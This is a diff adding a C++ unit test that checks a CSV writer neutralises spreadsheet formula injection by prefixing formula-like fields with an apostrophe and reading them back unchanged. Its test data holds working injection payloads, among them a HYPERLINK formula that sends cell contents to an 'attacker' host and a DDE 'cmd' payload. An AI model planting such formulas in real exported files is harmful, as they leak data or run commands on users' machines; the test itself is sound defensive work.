@@ -45,5 +45,36 @@ TEST(CsvText, RecordsEndInCrLfOrLfAndTheLastNeedsNoEnding) {
     EXPECT_EQ(ParseCsv("x,\"open"), Records({{"x", "open"}}));
 }
 
+// Texts from pages, engines and profiles that a spreadsheet would run as formulas get a "'" in
+// front; numbers do not; and every value reads back as it was.
+TEST(CsvText, FormulaLikeFieldsAreNeutralisedAndReadBack) {
+    struct Row {
+        std::string value;
+        std::string field;
+    };
+    const std::vector<Row> rows = {
+        {"=HYPERLINK(\"http://attacker/?leak=\"&A1,\"x\")",
+         "\"'=HYPERLINK(\"\"http://attacker/?leak=\"\"&A1,\"\"x\"\")\""},
+        {"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
+        {"-2+3", "'-2+3"},
+        {"@SUM(A1)", "'@SUM(A1)"},
+        {"\tx", "'\tx"},
+        {"\rx", "\"'\rx\""},
+        {"'=already", "''=already"},
+        {"''-x", "'''-x"},
+        {"-12", "-12"},
+        {"-1.5", "-1.5"},
+        {"it's", "it's"},
+        {"'quoted'", "'quoted'"},
+        {"a=b", "a=b"},
+        {"-", "'-"},
+    };
+    for (const Row& row : rows) {
+        EXPECT_EQ(CsvField(row.value), row.field) << row.value;
+        const std::array<std::string_view, 2> pair = {row.value, "=x"};
+        EXPECT_EQ(ParseCsv(CsvRecord(pair)), Records({{row.value, "=x"}})) << row.value;
+    }
+}
+
 }  // namespace
 }  // namespace sg
